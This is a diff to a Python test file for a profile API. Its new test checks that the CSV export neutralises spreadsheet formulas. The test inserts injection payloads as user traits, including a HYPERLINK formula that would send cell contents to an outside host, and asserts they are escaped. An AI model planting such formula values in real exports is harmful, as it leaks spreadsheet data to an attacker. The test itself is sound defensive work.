@@ -39,6 +39,9 @@ def test_profile_by_any_identifier(client, workspace, ana, reference):
     assert body["computed"]["orders"] == 1
     assert body["computed"]["favourite_category"] == "shoes"
     assert len(body["recent_events"]) == 3
+    assert body["transactions"] == [{
+        "kind": "Order Completed", "order_id": "o1", "amount": 80.0, "currency": None,
+        "timestamp": body["transactions"][0]["timestamp"], "messageId": body["transactions"][0]["messageId"]}]
 
 
 def test_foreign_workspace_gets_404(client, workspace, other_workspace, ana):
@@ -194,3 +197,29 @@ def test_a_wrong_merge_can_be_undone(client, runtime, workspace, other_workspace
     foreign = client.post(f"/api/v1/merges/{merge['id']}/undo",
                           headers=bearer(other_workspace.secret_key))
     assert foreign.status_code == 404
+
+
+def test_csv_export_neutralises_formulas(client, runtime, workspace, other_workspace):
+    client.post("/v1/identify", headers=basic(workspace.write_key), json={
+        "userId": "u-evil", "traits": {"firstName": '=HYPERLINK("http://x/?"&A1)', "lastName": "@SUM(1+1)",
+                                       "email": "evil@example.com"}})
+    client.post("/v1/identify", headers=basic(workspace.write_key), json={
+        "userId": "u-ok", "traits": {"firstName": "Ana", "lastName": "-1+1"}})
+    settle(runtime)
+    response = client.get("/api/v1/exports/profiles.csv", headers=bearer(workspace.secret_key))
+    assert response.status_code == 200
+    import csv
+    import io
+
+    rows = list(csv.DictReader(io.StringIO(response.text)))
+    by_user = {row["user_id"]: row for row in rows}
+    assert by_user["u-evil"]["firstName"] == "'=HYPERLINK(\"http://x/?\"&A1)"
+    assert by_user["u-evil"]["lastName"] == "'@SUM(1+1)"
+    assert by_user["u-evil"]["email"] == "evil@example.com"
+    assert by_user["u-ok"]["lastName"] == "'-1+1"
+    assert by_user["u-ok"]["firstName"] == "Ana"
+    foreign = client.get("/api/v1/exports/profiles.csv", headers=bearer(other_workspace.secret_key))
+    assert "u-evil" not in foreign.text
+    bad = client.get("/api/v1/exports/profiles.csv", params={"traits": "a,=b"},
+                     headers=bearer(workspace.secret_key))
+    assert bad.status_code == 400
